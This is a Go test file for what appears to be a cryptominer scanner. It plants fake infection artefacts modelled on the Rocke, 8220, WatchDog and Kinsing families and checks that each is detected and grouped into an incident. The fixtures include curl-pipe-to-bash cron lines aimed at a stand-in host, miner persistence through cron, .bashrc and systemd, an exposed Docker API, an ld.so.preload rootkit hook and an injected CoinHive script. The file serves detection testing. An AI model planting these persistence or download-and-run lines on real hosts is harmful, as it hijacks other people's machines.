package scan

import (
	"context"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/minerguard/minerguard/internal/findings"
	"github.com/minerguard/minerguard/internal/host"
	"github.com/minerguard/minerguard/internal/testkit/fstree"
)

// minerELF is a stand-in miner binary: an ELF header and the strings an
// XMRig build carries. It never runs.
const minerELF = "\x7fELF\x02\x01\x01\x00" + "\x00\x00 XMRig 6.21.0 donate.v2.xmrig.com --donate-level cpu-max-threads-hint randomx stratum+tcp:// mining.subscribe \x00"

const xmrigConfig = `{"autosave": true, "donate-level": 1, "cpu": {"enabled": true},
 "pools": [{"url": "stratum+tcp://pool.supportxmr.com:3333", "user": "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A", "pass": "x"}]}`

// artefact is one planted file a family leaves and what must report it.
type artefact struct {
	rule  string // rule id or rule id prefix ending in "."
	path  string
	min   findings.Severity
	group string // artefacts of one group must share one incident; "" = no incident
}

// TestInfectedFamilies plants what public reports describe for real
// mining families into one offline root and checks that every artefact is
// found at its severity and that each infection is told as one incident,
// apart from the others.
func TestInfectedFamilies(t *testing.T) {
	root := t.TempDir()
	tree := map[string]string{
		// Rocke-style: a miner, its config and a helper in a hidden temp
		// dir, restarted from root's crontab and .bashrc.
		"tmp/.x/kworkerds":              minerELF,
		"tmp/.x/config.json":            xmrigConfig,
		"var/spool/cron/crontabs/root":  "# m h dom mon dow command\n*/10 * * * * /tmp/.x/kworkerds >/dev/null 2>&1\n",
		"root/.bashrc":                  "alias ll='ls -l'\n/tmp/.x/kworkerds >/dev/null 2>&1 &\n",
		"etc/passwd":                    "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\nalice:x:1000:1000::/home/alice:/bin/bash\n",
		"etc/hostname":                  "gpu07\n",
		"home/alice/.bash_history":      "ls\nnvidia-smi\n",
		"home/alice/notes.txt":          "nothing here\n",
		"etc/cron.d/8220":               "SHELL=/bin/sh\n* * * * * root bash -c \"$(curl -fsSL http://192.0.2.20:8220/i.sh)\"\n",
		"var/spool/cron/crontabs/alice": "*/5 * * * * bash -c \"$(curl -fsSL http://192.0.2.20:8220/i.sh)\"\n",
		// WatchDog-style: a unit that keeps a renamed miner alive from a
		// hidden dir in root's home, enabled at boot.
		"etc/systemd/system/sysupdate.service":                         "[Unit]\nDescription=system update\n[Service]\nExecStart=/root/.sysupdate/sysupdate\nRestart=always\n[Install]\nWantedBy=multi-user.target\n",
		"etc/systemd/system/multi-user.target.wants/sysupdate.service": "->/etc/systemd/system/sysupdate.service",
		"root/.sysupdate/sysupdate":                                    minerELF,
		"root/.sysupdate/config.json":                                  xmrigConfig,
		// Kinsing: the way in (Docker API open to the network, no TLS) and
		// a preload rootkit hiding its processes.
		"etc/docker/daemon.json": `{"hosts": ["unix:///var/run/docker.sock", "tcp://0.0.0.0:2375"]}`,
		"etc/ld.so.preload":      "/etc/libsystem.so\n",
		// Web cryptojacking: a CoinHive loader injected into a site.
		"var/www/html/index.html": "<html><head><script src=\"https://coinhive.com/lib/coinhive.min.js\"></script>\n<script>var miner = new CoinHive.Anonymous('SsZsTzbHDPr0xEwxR4ZyCUsLCxPfbBST', {throttle: 0.3}); miner.start();</script></head></html>\n",
	}
	fstree.Write(t, root, tree, 0)

	want := []artefact{
		{"files.miner_binary", "/tmp/.x/kworkerds", findings.High, "rocke"},
		{"files.miner_config", "/tmp/.x/config.json", findings.High, "rocke"},
		{"persistence.cron.", "/var/spool/cron/crontabs/root", findings.High, "rocke"},
		{"persistence.startup.", "/root/.bashrc", findings.High, "rocke"},
		{"persistence.cron.download_exec", "/etc/cron.d/8220", findings.High, "8220"},
		{"persistence.cron.download_exec", "/var/spool/cron/crontabs/alice", findings.High, "8220"},
		{"persistence.services.", "/etc/systemd/system/sysupdate.service", findings.Critical, "watchdog"},
		{"files.miner_binary", "/root/.sysupdate/sysupdate", findings.High, "watchdog"},
		{"files.miner_config", "/root/.sysupdate/config.json", findings.High, "watchdog"},
		{"files.webminer", "/var/www/html/index.html", findings.High, "web"},
		{"process.preload.file", "/etc/ld.so.preload", findings.High, "kinsing"},
		{"containers.config.docker_tcp", "/etc/docker/daemon.json", findings.High, ""},
	}
	// The rootkit library itself, built for real when a compiler is here.
	if gcc, err := exec.LookPath("gcc"); err == nil {
		src, _ := filepath.Abs("../../cmd/minerguard/testdata/hideproc.c")
		out, err := exec.Command(gcc, "-shared", "-fPIC", "-o", filepath.Join(root, "etc/libsystem.so"), src, "-ldl").CombinedOutput()
		if err != nil {
			t.Fatalf("gcc: %v\n%s", err, out)
		}
		want = append(want, artefact{"preload.library.hooks", "/etc/libsystem.so", findings.High, "kinsing"})
	} else {
		t.Log("gcc missing: the preload library is not built")
	}
	h, err := host.Offline(root)
	if err != nil {
		t.Fatal(err)
	}
	rep, err := Run(context.Background(), h, Options{})
	if err != nil {
		t.Fatal(err)
	}
	groupIncident := map[string]string{}
	incidentGroup := map[string]string{}
	for _, w := range want {
		var hit *findings.Finding
		for i, f := range rep.Findings {
			if f.Evidence.Path == w.path && (f.Rule == w.rule || strings.HasSuffix(w.rule, ".") && strings.HasPrefix(f.Rule, w.rule)) {
				if hit == nil || f.Severity > hit.Severity {
					hit = &rep.Findings[i]
				}
			}
		}
		if hit == nil {
			t.Errorf("%s: no %s finding", w.path, w.rule)
			continue
		}
		if hit.Severity < w.min {
			t.Errorf("%s: %s is %s, want at least %s", w.path, hit.Rule, hit.Severity, w.min)
		}
		if w.group == "" {
			if hit.Incident != "" {
				t.Errorf("%s: %s is advice, yet in incident %s", w.path, hit.Rule, hit.Incident)
			}
			continue
		}
		if hit.Incident == "" {
			t.Errorf("%s: %s is in no incident", w.path, hit.Rule)
			continue
		}
		if prev, ok := groupIncident[w.group]; ok && prev != hit.Incident {
			t.Errorf("%s: in %s, but the rest of %q is in %s", w.path, hit.Incident, w.group, prev)
		}
		groupIncident[w.group] = hit.Incident
		if g, ok := incidentGroup[hit.Incident]; ok && g != w.group {
			t.Errorf("%s: incident %s mixes %q and %q", w.path, hit.Incident, g, w.group)
		}
		incidentGroup[hit.Incident] = w.group
	}
	for _, in := range rep.Incidents {
		g, ok := incidentGroup[in.ID]
		if !ok {
			if in.Severity >= findings.Medium {
				t.Errorf("unexpected incident %s %s: %s %v", in.ID, in.Severity, in.Title, in.Rules)
			}
			continue
		}
		wantSev := findings.Critical
		if g == "web" || g == "8220" || g == "kinsing" {
			wantSev = findings.High
		}
		if in.Severity < wantSev {
			t.Errorf("incident %s (%s) is %s, want at least %s: %s", in.ID, g, in.Severity, wantSev, in.Title)
		}
	}
	// alice's clean files and the passwd file are quiet.
	for _, f := range rep.Findings {
		if strings.HasPrefix(f.Evidence.Path, "/home/alice/") && f.Severity >= findings.Medium {
			t.Errorf("clean file reported: %s %s %s", f.Rule, f.Severity, f.Evidence.Path)
		}
	}
	if t.Failed() || os.Getenv("MG_DUMP") != "" {
		for _, f := range rep.Findings {
			t.Logf("%s %s %s %s [%s]", f.Incident, f.Severity, f.Rule, f.Evidence.Path, strings.Join(f.Evidence.Paths, " "))
		}
	}
}
